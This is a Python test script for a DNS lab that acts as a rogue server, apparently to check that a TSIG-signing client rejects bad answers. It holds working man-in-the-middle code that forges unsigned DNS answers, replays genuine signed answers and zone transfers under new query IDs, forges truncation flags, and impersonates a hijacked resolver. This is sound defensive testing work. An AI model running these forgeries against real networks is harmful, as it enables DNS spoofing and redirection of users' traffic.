#!/usr/bin/python3
"""Whoever answers in the DNS server's place, for the lab (test_wide_forged.lua):
answers that no TSIG key signed, built with scapy.  Runs ONLY inside a lab
host (it refuses the root network namespace, whose eth0 may be shared).

  rogue_dns.py relay LISTEN UPSTREAM
        A man in the middle.  Each UDP query first gets a forged, unsigned
        answer, sent at once (the next kind of forgery in turn, below), then
        the query is relayed to UPSTREAM and the real answer passed back: a
        client that believes the first answer believes the forgery.  TCP
        (transfers, big answers): every other connection is answered with an
        unsigned REFUSED; the others are relayed both ways unchanged.
  rogue_dns.py replay LISTEN UPSTREAM
        A man in the middle that replays genuine, signed answers
        (test_wide_attacks.lua).  Each UDP query first gets the last
        genuine answer the relay passed on (to whichever client, whatever
        the question, signed with whichever key: another host's, the
        sweeper's, the same client's to an older query) with the query's
        ID, then the real answer.  TCP: every other connection is relayed
        and its answer recorded (each client's first, third... connection);
        the others get the last recorded answer
        (a whole genuine transfer, signed for another request) with the
        request's ID.  Logs "replayed KEY's answer for QNAME QTYPE to
        QNAME QTYPE from CLIENT" and "replayed transfer (N messages, KEY)
        to QNAME QTYPE from CLIENT".
  rogue_dns.py tc LISTEN UPSTREAM
        A man in the middle that answers each UDP query first with an
        unsigned, empty answer that says truncated (TC), then relays the
        real one; TCP is relayed, and each request over it logged ("tcp:
        QNAME QTYPE"): a client that believes the forged TC asks again
        over TCP (test_wide_attacks.lua).
  rogue_dns.py resolver LISTEN ZONE MNAME ADDR
        A hijacked resolver (a rogue DHCP / RA one): the SOA of ZONE (and of
        any name below it) names MNAME, MNAME's A is ADDR, everything else
        NOERROR and empty; and, as the rogue server at ADDR, SOA queries for
        ZONE get an unsigned SOA.  UDP only.

The forgeries, in turn: each rcode from FORMERR to NOTZONE, NOERROR with no
answer (an empty SOA), a stale SOA (serial 1), a SOA with a far newer serial,
for PTR queries a PTR to a service that does not exist (evil), for SRV an SRV
at "." and for TXT a TXT "evil=1".  Port 53 on both sides.  Prints "ready",
then one line per forgery ("forged KIND for QNAME QTYPE") and per relay."""
import os
import socket
import sys
import threading


def refuse_root_netns():
    root = None
    for pid in (1, 2):
        try:
            root = os.readlink("/proc/%d/ns/net" % pid)
            break
        except OSError:
            continue
    if root is None or os.readlink("/proc/self/ns/net") == root:
        sys.exit("rogue_dns.py: refusing to run in the root network namespace (use tests/lab/lab exec)")


refuse_root_netns()

from scapy.layers.dns import DNS, DNSRR, DNSRRSOA, DNSRRSRV  # noqa: E402


def log(msg):
    print(msg, flush=True)


RCODES = ["FORMERR", "SERVFAIL", "NXDOMAIN", "NOTIMP", "REFUSED", "YXDOMAIN", "YXRRSET", "NXRRSET", "NOTAUTH",
          "NOTZONE"]
KINDS = RCODES + ["empty", "stale", "newer", "records"]
TYPES = {1: "A", 6: "SOA", 12: "PTR", 16: "TXT", 28: "AAAA", 33: "SRV", 251: "IXFR", 252: "AXFR"}


def qinfo(q):
    qd = q.qd
    name = qd.qname.decode(errors="replace") if isinstance(qd.qname, bytes) else str(qd.qname)
    return qd, name, TYPES.get(qd.qtype, str(qd.qtype))


def forged(q, kind):
    """An unsigned answer to q of the given kind."""
    qd, name, qtype = qinfo(q)
    ans = DNS(id=q.id, qr=1, aa=1, rd=q.rd, opcode=q.opcode, qd=qd)
    if kind in RCODES:
        ans.rcode = RCODES.index(kind) + 1
        return ans
    if kind == "empty":
        return ans
    if qtype == "SOA" or kind in ("stale", "newer"):
        ans.an = DNSRRSOA(rrname=name, mname="ns.evil.", rname="hm.evil.", serial=1 if kind == "stale" else 4000000000,
                          refresh=60, retry=30, expire=3600, minimum=30, ttl=60)
    elif qtype == "PTR":
        ans.an = DNSRR(rrname=name, type="PTR", ttl=60, rdata="evil." + name)
    elif qtype == "SRV":
        ans.an = DNSRRSRV(rrname=name, ttl=60, priority=0, weight=0, port=6666, target=".")
    elif qtype == "TXT":
        ans.an = DNSRR(rrname=name, type="TXT", ttl=60, rdata=[b"evil=1"])
    elif qtype == "A":
        ans.an = DNSRR(rrname=name, type="A", ttl=60, rdata="10.66.66.66")
    return ans


def relay(listen, upstream):
    family = socket.AF_INET6 if ":" in listen else socket.AF_INET
    udp = socket.socket(family, socket.SOCK_DGRAM)
    udp.bind((listen, 53))
    tcp = socket.socket(family, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind((listen, 53))
    tcp.listen(16)
    state = {"n": 0, "tcp": 0}
    lock = threading.Lock()

    def one_udp(data, addr):
        try:
            q = DNS(data)
        except Exception as e:  # noqa: BLE001 (anything scapy cannot parse: relayed only)
            log("unparsed query: %s" % e)
            q = None
        if q is not None and q.qd is not None:
            with lock:
                kind = KINDS[state["n"] % len(KINDS)]
                state["n"] += 1
            _, name, qtype = qinfo(q)
            udp.sendto(bytes(forged(q, kind)), addr)
            log("forged %s for %s %s" % (kind, name, qtype))
        with socket.socket(family, socket.SOCK_DGRAM) as up:
            up.settimeout(3)
            up.sendto(data, (upstream, 53))
            try:
                answer, _ = up.recvfrom(65535)
            except OSError as e:
                log("relay: no answer: %s" % e)
                return
        udp.sendto(answer, addr)

    def serve_udp():
        while True:
            data, addr = udp.recvfrom(65535)
            threading.Thread(target=one_udp, args=(data, addr), daemon=True).start()

    def pipe(a, b):
        try:
            while True:
                chunk = a.recv(65536)
                if not chunk:
                    break
                b.sendall(chunk)
        except OSError:
            pass
        for s in (a, b):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def one_tcp(conn):
        with lock:
            state["tcp"] += 1
            refuse = state["tcp"] % 2 == 1
        if refuse:
            with conn:
                try:
                    n = int.from_bytes(conn.recv(2), "big")
                    data = b""
                    while len(data) < n:
                        chunk = conn.recv(n - len(data))
                        if not chunk:
                            return
                        data += chunk
                    q = DNS(data)
                    ans = bytes(forged(q, "REFUSED"))
                    conn.sendall(len(ans).to_bytes(2, "big") + ans)
                    log("forged REFUSED over TCP for %s %s" % qinfo(q)[1:])
                except (OSError, ValueError) as e:
                    log("tcp: %s" % e)
            return
        up = socket.create_connection((upstream, 53), timeout=10)
        log("tcp: relayed")
        threading.Thread(target=pipe, args=(conn, up), daemon=True).start()
        pipe(up, conn)

    threading.Thread(target=serve_udp, daemon=True).start()
    log("ready")
    while True:
        conn, _ = tcp.accept()
        threading.Thread(target=one_tcp, args=(conn,), daemon=True).start()


def signer(wire):
    """The key name of the TSIG record in wire, or "unsigned"."""
    try:
        rr = DNS(wire).ar  # scapy 2.5: the additional records as a chain of layers
        while rr is not None and hasattr(rr, "rrname"):
            if rr.type == 250:
                n = rr.rrname
                return n.decode(errors="replace") if isinstance(n, bytes) else str(n)
            rr = rr.payload if rr.payload else None
    except Exception:  # noqa: BLE001
        pass
    return "unsigned"


def replay(listen, upstream):
    family = socket.AF_INET6 if ":" in listen else socket.AF_INET
    udp = socket.socket(family, socket.SOCK_DGRAM)
    udp.bind((listen, 53))
    tcp = socket.socket(family, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind((listen, 53))
    tcp.listen(16)
    state = {"last": None, "what": "", "tcp": {}, "stream": None, "stream_key": ""}
    lock = threading.Lock()

    def one_udp(data, addr):
        try:
            q = DNS(data)
            _, name, qtype = qinfo(q)
        except Exception:  # noqa: BLE001
            q, name, qtype = None, "?", "?"
        with lock:
            old, what = state["last"], state["what"]
        if q is not None and old is not None:
            udp.sendto(data[:2] + old[2:], addr)
            log("replayed %s to %s %s from %s" % (what, name, qtype, addr[0]))
        with socket.socket(family, socket.SOCK_DGRAM) as up:
            up.settimeout(3)
            up.sendto(data, (upstream, 53))
            try:
                answer, _ = up.recvfrom(65535)
            except OSError as e:
                log("relay: no answer: %s" % e)
                return
        with lock:
            state["last"] = answer
            state["what"] = "%s's answer for %s %s" % (signer(answer), name, qtype)
        udp.sendto(answer, addr)

    def serve_udp():
        while True:
            data, addr = udp.recvfrom(65535)
            threading.Thread(target=one_udp, args=(data, addr), daemon=True).start()

    def one_tcp(conn, client):
        with lock:
            n = state["tcp"][client] = state["tcp"].get(client, 0) + 1
            stream, key = state["stream"], state["stream_key"]
            replaying = stream is not None and n % 2 == 0
        with conn:
            try:
                req = read_frame(conn)
                _, name, qtype = qinfo(DNS(req))
                if replaying:
                    conn.sendall(b"".join(frame(req[:2] + m[2:]) for m in stream))
                    log("replayed transfer (%d messages, %s) to %s %s from %s" % (len(stream), key, name, qtype,
                                                                              client))
                    return
                msgs = []
                with socket.create_connection((upstream, 53), timeout=10) as up:
                    up.sendall(frame(req))
                    msgs.append(read_frame(up))
                    conn.sendall(frame(msgs[0]))
                    up.settimeout(1)  # the rest of a transfer: until the server pauses (it keeps the connection)
                    while True:
                        try:
                            m = read_frame(up)
                        except (OSError, EOFError):
                            break
                        msgs.append(m)
                        conn.sendall(frame(m))
                with lock:
                    state["stream"], state["stream_key"] = msgs, signer(msgs[0])
                log("tcp: relayed %s %s (%d messages)" % (name, qtype, len(msgs)))
            except (OSError, ValueError, EOFError) as e:
                log("tcp: %s" % e)

    threading.Thread(target=serve_udp, daemon=True).start()
    log("ready")
    while True:
        conn, addr = tcp.accept()
        threading.Thread(target=one_tcp, args=(conn, addr[0]), daemon=True).start()


def tc(listen, upstream):
    family = socket.AF_INET6 if ":" in listen else socket.AF_INET
    udp = socket.socket(family, socket.SOCK_DGRAM)
    udp.bind((listen, 53))
    tcp = socket.socket(family, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind((listen, 53))
    tcp.listen(16)

    def one_udp(data, addr):
        try:
            q = DNS(data)
            _, name, qtype = qinfo(q)
            udp.sendto(bytes(DNS(id=q.id, qr=1, aa=1, tc=1, rd=q.rd, opcode=q.opcode, qd=q.qd)), addr)
            log("forged TC for %s %s" % (name, qtype))
        except Exception as e:  # noqa: BLE001
            log("unparsed query: %s" % e)
        with socket.socket(family, socket.SOCK_DGRAM) as up:
            up.settimeout(3)
            up.sendto(data, (upstream, 53))
            try:
                answer, _ = up.recvfrom(65535)
            except OSError as e:
                log("relay: no answer: %s" % e)
                return
        udp.sendto(answer, addr)

    def serve_udp():
        while True:
            data, addr = udp.recvfrom(65535)
            threading.Thread(target=one_udp, args=(data, addr), daemon=True).start()

    def one_tcp(conn):
        with conn:
            try:
                req = read_frame(conn)
                _, name, qtype = qinfo(DNS(req))
                log("tcp: %s %s" % (name, qtype))
                with socket.create_connection((upstream, 53), timeout=10) as up:
                    up.sendall(frame(req))
                    conn.sendall(frame(read_frame(up)))
                    up.settimeout(1)  # the rest of a transfer
                    while True:
                        try:
                            m = read_frame(up)
                        except (OSError, EOFError):
                            break
                        conn.sendall(frame(m))
            except (OSError, ValueError, EOFError) as e:
                log("tcp: %s" % e)

    threading.Thread(target=serve_udp, daemon=True).start()
    log("ready")
    while True:
        conn, _ = tcp.accept()
        threading.Thread(target=one_tcp, args=(conn,), daemon=True).start()


def frame(m):
    return len(m).to_bytes(2, "big") + m


def read_frame(sock):
    def exact(n):
        data = b""
        while len(data) < n:
            chunk = sock.recv(n - len(data))
            if not chunk:
                raise EOFError("closed")
            data += chunk
        return data
    return exact(int.from_bytes(exact(2), "big"))


def resolver(listen, zone, mname, addr):
    zone = zone.rstrip(".").lower() + "."
    mname = mname.rstrip(".").lower() + "."
    family = socket.AF_INET6 if ":" in listen else socket.AF_INET
    udp = socket.socket(family, socket.SOCK_DGRAM)
    udp.bind((listen, 53))
    log("ready")
    while True:
        data, peer = udp.recvfrom(65535)
        try:
            q = DNS(data)
        except Exception:  # noqa: BLE001
            continue
        if q.qd is None:
            continue
        qd, name, qtype = qinfo(q)
        low = name.lower()
        ans = DNS(id=q.id, qr=1, aa=1, ra=1, rd=q.rd, qd=qd)
        if qtype == "SOA" and (low == zone or low.endswith("." + zone)):
            ans.an = DNSRRSOA(rrname=zone, mname=mname, rname="hm." + zone, serial=7, refresh=60, retry=30,
                              expire=3600, minimum=30, ttl=60)
        elif qtype == "A" and low == mname:
            ans.an = DNSRR(rrname=mname, type="A", ttl=60, rdata=addr)
        udp.sendto(bytes(ans), peer)
        log("answered %s %s" % (name, qtype))


def main():
    if len(sys.argv) == 4 and sys.argv[1] == "relay":
        relay(sys.argv[2], sys.argv[3])
    elif len(sys.argv) == 4 and sys.argv[1] == "tc":
        tc(sys.argv[2], sys.argv[3])
    elif len(sys.argv) == 4 and sys.argv[1] == "replay":
        replay(sys.argv[2], sys.argv[3])
    elif len(sys.argv) == 6 and sys.argv[1] == "resolver":
        resolver(*sys.argv[2:])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
